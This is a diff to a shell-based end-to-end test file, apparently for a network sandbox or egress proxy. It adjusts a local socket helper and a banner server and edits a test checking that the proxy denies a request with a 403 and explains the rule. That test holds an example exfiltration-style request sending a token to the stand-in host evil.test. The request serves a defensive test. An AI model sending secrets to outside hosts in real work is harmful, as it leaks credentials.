@@ -20,9 +20,9 @@ setup_file() {
 	cat > "$E2E/ws/app/raw.py" <<-'PY'
 		# raw.py HOST PORT TEXT...: what answers the bytes (TEXT with escapes), first lines only.
 		import socket, sys
-		s = socket.create_connection((sys.argv[1], int(sys.argv[2])), 20)
 		out = b""
 		try:
+		    s = socket.create_connection((sys.argv[1], int(sys.argv[2])), 20)
 		    for part in sys.argv[3:]:
 		        s.sendall(part.encode().decode("unicode_escape").encode("latin1"))
 		    while d := s.recv(65536): out += d
@@ -40,7 +40,7 @@ teardown_file() {
 
 # A server that speaks first, as sshd does.
 serve_banner() {
-	python3 - "$E2E/banner.port" <<-'PY' </dev/null >/dev/null 2>&1 3>&- &
+	cat > "$E2E/banner.py" <<-'PY'
 		import os, socket, sys
 		s = socket.socket(); s.bind(("127.0.0.1", 0)); s.listen(9)
 		with open(sys.argv[1] + ".new", "w") as f: f.write(str(s.getsockname()[1]))
@@ -51,6 +51,7 @@ serve_banner() {
 		    line = c.recv(1000)
 		    c.sendall(b"echo " + line); c.close()
 	PY
+	python3 "$E2E/banner.py" "$E2E/banner.port" </dev/null >/dev/null 2>&1 3>&- &
 	echo $! >> "$E2E/servers"
 	wait_until 20 test -s "$E2E/banner.port"
 	banner_port=$(cat "$E2E/banner.port")
@@ -89,7 +90,7 @@ works() {
 
 @test "a denial says what it is, why, and what would allow it" {
 	local out
-	out=$(code -i http://evil.test/secret?token=abc)
+	out=$(code -i http://evil.test/data?token=abc)
 	has "$out" "HTTP/1.1 403 Forbidden"
 	has "$out" "rule: <default policy>"
 	has "$out" "paddock network allow log evil.test:80"
